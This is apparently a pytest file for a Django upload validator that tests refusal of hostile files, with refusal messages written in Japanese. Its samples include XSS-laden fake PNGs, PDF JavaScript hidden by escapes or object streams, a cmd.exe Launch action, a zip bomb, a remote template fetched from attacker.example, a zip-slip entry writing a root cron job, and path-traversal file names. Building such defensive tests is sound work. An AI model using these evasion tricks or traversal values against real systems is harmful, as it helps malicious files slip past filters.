"""Every file of the attack corpus is refused with a reason that names the file and says
what is wrong, and leaves nothing behind in the store."""

from __future__ import annotations

import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from django.conf import settings
from django.test import override_settings

from dxdesk.files import content
from dxdesk.files.content import RefusalCode
from dxdesk.files.models import StoredFile
from dxdesk.files.storage import UploadRefused, store_upload
from dxdesk.files.tests import samples
from dxdesk.files.tests.samples import RawUpload, upload

pytestmark = pytest.mark.django_db

JAVASCRIPT_ACTION = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"


def refusal(name: str, content: bytes) -> UploadRefused:
    return refusal_of(upload(name, content))


def refusal_of(uploaded: object) -> UploadRefused:
    with pytest.raises(UploadRefused) as raised:
        store_upload(uploaded)  # type: ignore[arg-type]
    assert not StoredFile.objects.exists()
    store = Path(settings.FILE_STORE_DIR)
    assert not [path for path in store.rglob("*") if path.is_file()], "a refused file was kept"
    return raised.value


def test_it_refuses_html_renamed_as_png() -> None:
    refused = refusal("見積書.png", b"<!DOCTYPE html><html><script>alert(1)</script></html>")
    assert str(refused) == "「見積書.png」: 内容がPNG画像ではありません（HTML）。"
    assert refused.code == RefusalCode.CONTENT_MISMATCH
    assert refused.file_name == "見積書.png"


def test_it_refuses_svg_renamed_as_png() -> None:
    refused = refusal("logo.png", b'<?xml version="1.0"?><svg onload="alert(1)"></svg>')
    assert refused.reason == "内容がPNG画像ではありません（SVG）。"


def test_it_refuses_a_png_carrying_html_in_a_text_chunk() -> None:
    text = samples.png_chunk(b"tEXt", b"Comment\x00<html><script>alert(1)</script></html>")
    refused = refusal("写真.png", samples.png(extra_chunks=text))
    assert refused.code == RefusalCode.POLYGLOT
    assert refused.reason == "ファイルの先頭にHTMLやスクリプト（<html）が含まれています。"


def test_it_refuses_a_png_with_a_zip_after_its_end() -> None:
    refused = refusal("写真.png", samples.png(after_end=b"PK\x03\x04" + bytes(5000)))
    assert refused.code == RefusalCode.POLYGLOT
    assert "IEND" in refused.reason


def test_it_refuses_a_jpeg_with_a_zip_after_its_end() -> None:
    refused = refusal("写真.jpg", samples.jpeg(after_end=b"\x00" * 5000 + samples.docx()))
    assert refused.code == RefusalCode.POLYGLOT
    assert "JPEG画像の終わりの後に" in refused.reason


def test_it_refuses_a_pdf_that_starts_with_a_script() -> None:
    refused = refusal("申請書.pdf", samples.pdf(head=b"<script>alert(document.domain)</script>\n"))
    assert refused.code == RefusalCode.POLYGLOT
    assert refused.reason == "ファイルの先頭にHTMLやスクリプト（<script）が含まれています。"


def test_it_refuses_html_with_a_pdf_header_after_it() -> None:
    refused = refusal("申請書.pdf", b"<html><body>" + samples.pdf())
    assert refused.reason == "内容がPDFではありません（HTML）。"


def test_it_refuses_a_pdf_with_javascript() -> None:
    refused = refusal("申請書.pdf", samples.pdf(catalog_extra=JAVASCRIPT_ACTION))
    assert refused.code == RefusalCode.ACTIVE_CONTENT
    assert str(refused) == (
        "「申請書.pdf」: PDFにJavaScriptが含まれています。"
        "印刷機能で「PDFとして保存」し直すと取り除けます。"
    )


def test_it_refuses_javascript_whose_name_is_hidden_by_escapes() -> None:
    hidden = b"/OpenAction << /S /J#61va#53cript /J#53 (app.alert(1)) >>"
    assert refusal("申請書.pdf", samples.pdf(catalog_extra=hidden)).code == (
        RefusalCode.ACTIVE_CONTENT
    )


def test_it_refuses_javascript_packed_in_a_compressed_object_stream() -> None:
    packed = samples.object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    content = samples.pdf(catalog_extra=b"/OpenAction 6 0 R", objects=(packed,))
    assert b"JavaScript" not in content
    assert "JavaScript" in refusal("申請書.pdf", content).reason


@pytest.mark.parametrize(
    ("catalog_extra", "named"),
    [
        (b"/OpenAction << /S /Launch /F (cmd.exe) >>", "他のプログラムを起動する命令（Launch）"),
        (b"/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>", "埋め込みファイル"),
        (b"/AcroForm << /XFA 9 0 R >>", "XFAフォーム"),
    ],
)
def test_it_refuses_a_pdf_that_acts_on_its_own(catalog_extra: bytes, named: str) -> None:
    refused = refusal("申請書.pdf", samples.pdf(catalog_extra=catalog_extra))
    assert refused.code == RefusalCode.ACTIVE_CONTENT
    assert refused.reason.startswith(f"PDFに{named}")


def test_it_refuses_an_encrypted_pdf() -> None:
    refused = refusal("納税証明書.pdf", samples.pdf(trailer_extra=b"/Encrypt 9 0 R"))
    assert refused.code == RefusalCode.ENCRYPTED
    assert "パスワードや保護のかかったPDF" in refused.reason


def test_it_refuses_a_pdf_with_something_after_its_end() -> None:
    refused = refusal("申請書.pdf", samples.pdf(after_end=samples.docx()))
    assert refused.code == RefusalCode.POLYGLOT
    assert refused.reason == "PDFの終わり（%%EOF）の後に別のデータが付いています。"


def test_it_refuses_a_zip_bomb_disguised_as_a_docx() -> None:
    refused = refusal("事業計画書.docx", samples.zip_bomb_docx(200))
    assert refused.code == RefusalCode.ZIP_BOMB
    assert "展開後200 MB" in refused.reason
    assert "圧縮率" in refused.reason


def test_the_zip_bomb_is_real() -> None:
    with zipfile.ZipFile(BytesIO(samples.zip_bomb_docx(200))) as archive:
        entry = archive.getinfo("word/media/image1.png")
        assert entry.file_size == 200 * 1024 * 1024
        with archive.open(entry) as inflating:
            assert inflating.read(3 * 1024 * 1024) == bytes(3 * 1024 * 1024)


def test_it_refuses_a_docx_with_macros() -> None:
    refused = refusal("事業計画書.docx", samples.docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
    assert refused.code == RefusalCode.MACRO
    assert refused.reason.startswith("マクロ（VBA）を含むファイルは受け付けられません。")


def test_it_refuses_a_macro_enabled_workbook_renamed_as_xlsx() -> None:
    content = samples.xlsx()
    with zipfile.ZipFile(BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
    )
    output = BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    assert refusal("経費明細.xlsx", output.getvalue()).code == RefusalCode.MACRO


def test_it_refuses_a_docx_with_an_embedded_ole_object() -> None:
    content = samples.docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})
    assert refusal("事業計画書.docx", content).code == RefusalCode.EMBEDDED_OBJECT


def test_it_refuses_a_docx_that_fetches_a_remote_template() -> None:
    relationships = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    refused = refusal(
        "事業計画書.docx", samples.docx({"word/_rels/settings.xml.rels": relationships})
    )
    assert refused.code == RefusalCode.EXTERNAL_REFERENCE
    assert "attachedTemplate" in refused.reason


def test_it_refuses_a_password_protected_office_file() -> None:
    # Office keeps a password-protected xlsx in an OLE2 container, not a ZIP.
    refused = refusal("経費明細.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000))
    assert refused.reason == (
        "内容がExcel（xlsx）ではありません"
        "（古い形式（.xls / .doc）またはパスワード付きのOffice文書）。"
    )


def test_it_refuses_a_zip_with_an_encrypted_entry() -> None:
    content = samples.raw_zip(
        [
            samples.deflated_entry("[Content_Types].xml", samples.DOCX_CONTENT_TYPES),
            samples.deflated_entry("word/document.xml", samples.DOCX_DOCUMENT),
        ],
        encrypted="word/document.xml",
    )
    refused = refusal("事業計画書.docx", content)
    assert refused.code == RefusalCode.ENCRYPTED
    assert refused.reason.startswith("パスワード付きのファイルは受け付けられません。")


def test_it_refuses_a_zip_whose_entries_climb_out_of_it() -> None:
    output = BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("[Content_Types].xml", samples.DOCX_CONTENT_TYPES)
        archive.writestr("word/document.xml", samples.DOCX_DOCUMENT)
        archive.writestr("../../etc/cron.d/evil", b"* * * * * root sh")
    refused = refusal("事業計画書.docx", output.getvalue())
    assert refused.code == RefusalCode.DAMAGED
    assert "中のファイル名が不正です（../../etc/cron.d/evil）" in refused.reason


@override_settings(UPLOAD_MAX_BYTES=1024)
def test_it_refuses_a_file_over_the_limit() -> None:
    content = samples.pdf(content=b"0 0 m " * 400)
    refused = refusal("決算書.pdf", content)
    assert refused.code == RefusalCode.TOO_LARGE
    assert (
        refused.reason
        == f"ファイルが大きすぎます（{len(content) / 1024:.1f} KB。上限は1.0 KBです）。"
    )


@override_settings(UPLOAD_MAX_BYTES=1024)
def test_it_refuses_a_file_over_the_limit_whatever_size_it_claims() -> None:
    refused = refusal_of(RawUpload("決算書.pdf", samples.pdf(content=b"0 0 m " * 400), size=10))
    assert refused.reason == "ファイルが大きすぎます（上限は1.0 KBです）。"


def test_the_limit_is_ten_megabytes_unless_configured() -> None:
    assert settings.UPLOAD_MAX_BYTES == 10 * 1024 * 1024


def test_it_refuses_a_name_that_climbs_out_of_its_folder() -> None:
    refused = refusal_of(RawUpload("../../etc/passwd.pdf", samples.pdf()))
    assert refused.code == RefusalCode.BAD_NAME
    assert str(refused) == (
        "「../../etc/passwd.pdf」: "
        "ファイル名にフォルダの区切り（/ や \\）を含めることはできません。"
    )


def test_it_refuses_a_windows_path_as_a_name() -> None:
    refused = refusal_of(RawUpload("..\\..\\windows\\win.ini.pdf", samples.pdf()))
    assert refused.code == RefusalCode.BAD_NAME


def test_it_refuses_a_name_of_dots_only() -> None:
    assert refusal_of(RawUpload("..", samples.pdf())).reason == "ファイル名がありません。"


def test_it_refuses_a_pdf_named_as_a_workbook() -> None:
    refused = refusal("経費明細.xlsx", samples.pdf())
    assert refused.code == RefusalCode.EXTENSION_MISMATCH
    assert str(refused) == "「経費明細.xlsx」: 拡張子（.xlsx）と内容（PDF）が一致しません。"


def test_it_refuses_a_pdf_named_as_a_program() -> None:
    assert (
        refusal("setup.exe", samples.pdf()).reason == "拡張子（.exe）と内容（PDF）が一致しません。"
    )


def test_it_refuses_an_empty_file() -> None:
    refused = refusal("空.pdf", b"")
    assert refused.code == RefusalCode.EMPTY
    assert str(refused) == "「空.pdf」: ファイルが空です（0バイト）。"


def test_it_refuses_an_empty_file_that_claims_a_size() -> None:
    assert refusal_of(RawUpload("空.pdf", b"", size=100)).code == RefusalCode.EMPTY


def test_it_refuses_a_program() -> None:
    refused = refusal("setup.exe", b"MZ\x90\x00\x03" + bytes(500))
    assert refused.code == RefusalCode.UNKNOWN_TYPE
    assert refused.reason == (
        "受け付けていない種類のファイルです（Windowsの実行ファイル）。"
        "受け付けるのはPDF、JPEG、PNG、Excel（xlsx）、Word（docx）です。"
    )


def test_it_refuses_plain_text() -> None:
    refused = refusal("メモ.txt", "会社名,金額\n株式会社テスト,120000\n".encode("shift_jis"))
    assert refused.reason.startswith("受け付けていない種類のファイルです（テキスト）。")


def test_it_refuses_a_presentation() -> None:
    content = samples.docx({"ppt/presentation.xml": b"<p/>"})
    content_without_word = BytesIO()
    with (
        zipfile.ZipFile(BytesIO(content)) as source,
        zipfile.ZipFile(content_without_word, "w") as archive,
    ):
        for name in source.namelist():
            if name != "word/document.xml":
                archive.writestr(name, source.read(name))
    refused = refusal("説明資料.pptx", content_without_word.getvalue())
    assert refused.reason.startswith("受け付けていない種類のファイルです（PowerPoint（pptx））。")


def test_it_refuses_a_png_whose_checksum_is_wrong() -> None:
    content = bytearray(samples.png())
    content[-20] ^= 0xFF  # inside the IDAT chunk
    refused = refusal("写真.png", bytes(content))
    assert refused.code == RefusalCode.DAMAGED
    assert (
        refused.reason
        == "PNG画像として壊れているか、構造が不正です（IDATのチェックサムが一致しません）。"
    )


def test_it_refuses_a_png_claiming_ten_billion_pixels() -> None:
    refused = refusal("写真.png", samples.png(width=100_000, height=100_000))
    assert refused.reason == "画像の画素数が多すぎます（100000×100000）。"


def test_it_refuses_a_truncated_jpeg() -> None:
    refused = refusal("写真.jpg", samples.jpeg()[:-2])
    assert (
        refused.reason
        == "JPEG画像として壊れているか、構造が不正です（終わり（EOI）がありません）。"
    )


def test_it_refuses_a_pdf_too_intricate_to_check_quickly(monkeypatch: pytest.MonkeyPatch) -> None:
    # Ten million empty strings would take a minute to walk; the walk has a bound.
    monkeypatch.setattr(content, "PDF_MAX_STEPS", 1000)
    refused = refusal("申請書.pdf", samples.pdf(catalog_extra=b"/Info [" + b"()" * 1000 + b"]"))
    assert refused.code == RefusalCode.TOO_COMPLEX
    assert refused.reason == "PDFの構造が複雑すぎて確認できません。"


def test_it_refuses_a_png_of_endless_tiny_chunks(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(content, "PNG_MAX_CHUNKS", 100)
    chunks = samples.png_chunk(b"tIME", b"\x07\xe8\x01\x01\x00\x00\x00") * 200
    refused = refusal("写真.png", samples.png(extra_chunks=chunks))
    assert refused.reason == "PNG画像の構造が複雑すぎて確認できません。"


def test_it_refuses_javascript_after_a_stream_that_opens_a_parenthesis() -> None:
    # A comment between the dictionary and its stream, and a lone "(" in the data: the
    # scan must still know it is in a stream, or the "string" would hide the rest.
    stream = b"<< /Length 1 >>%comment\nstream\n(\nendstream"
    content = samples.pdf(objects=(stream, b"<< /S /JavaScript /JS (app.alert(1)) >>"))
    assert refusal("申請書.pdf", content).code == RefusalCode.ACTIVE_CONTENT


def test_it_refuses_a_pdf_with_a_string_that_never_closes() -> None:
    content = samples.pdf(catalog_extra=b"/Title (unclosed")
    refused = refusal("申請書.pdf", content)
    assert (
        refused.reason == "PDFとして壊れているか、構造が不正です（閉じていない文字列があります）。"
    )
